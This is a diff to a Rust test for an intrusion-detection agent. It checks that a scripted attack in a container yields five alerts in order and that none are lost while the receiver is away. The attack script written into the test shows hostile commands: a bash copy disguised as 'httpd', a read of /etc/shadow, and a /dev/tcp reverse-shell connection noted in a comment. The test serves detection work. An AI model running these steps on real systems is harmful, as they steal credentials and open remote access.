@@ -69,7 +69,7 @@ detection:
 
 /// What the attacker does. `httpd` is a shell in disguise, and `exec 3<>/dev/tcp/…` a connection.
 const ATTACK: &str = r#"
-cp /bin/bash httpd; cp /bin/true dropped; echo old > access_log
+cp /bin/bash httpd; cp /bin/true dropped
 cat > attack.sh <<'END'
 read secret < /etc/shadow
 ./dropped
@@ -85,6 +85,7 @@ fn an_attack_is_one_story_for_a_receiver_that_was_away() {
     let test = "an_attack_is_one_story_for_a_receiver_that_was_away";
     let Some(container) = Container::new(test) else { return };
     std::fs::write(container.directory.join("rules.yaml"), RULES).expect("written");
+    std::fs::write(container.directory.join("access_log"), "GET /").expect("written");
     // The port is ours, but nobody answers on it yet.
     let port = TcpListener::bind("127.0.0.1:0").expect("a port").local_addr().expect("one").port();
     let away = Instant::now();
@@ -102,19 +103,26 @@ fn an_attack_is_one_story_for_a_receiver_that_was_away() {
     let door = TcpListener::bind(("127.0.0.1", port)).expect("the port is still free");
     thread::spawn(move || take(&door, &told));
     let mut story: Vec<Value> = Vec::new();
-    while story.len() < 5 {
+    while story.last().is_none_or(|last| last["rule"] != "Log cleared") {
         let alert = alerts.recv_timeout(Duration::from_secs(30)).expect("another alert");
         // At least once: what was sent twice is the same.
         if !story.contains(&alert) {
             story.push(alert);
         }
     }
+    wait("a word on the receiver", || agent.said().contains("http takes alerts again"));
     let said = agent.end();
-    assert!(said.contains("http takes alerts again") && said.contains(" 0 lost;"), "{said}");
+    assert!(said.contains(" 0 lost;"), "{said}");
 
+    println!("{:#?}", story.iter().map(|it| it["output"].to_string()).collect::<Vec<_>>());
     let rules: Vec<&str> = story.iter().map(|it| it["rule"].as_str().unwrap()).collect();
-    let expected =
-        ["Shell below a web server", "Secrets read", "Dropped binary", "Reverse shell", "Log cleared"];
+    let expected = [
+        "Shell below a web server",
+        "Secrets read",
+        "Dropped binary",
+        "Reverse shell",
+        "Log cleared",
+    ];
     assert_eq!(rules, expected, "{story:#?}");
     let times: Vec<&str> = story.iter().map(|it| it["time"].as_str().unwrap()).collect();
     assert!(times.is_sorted(), "{times:?}");
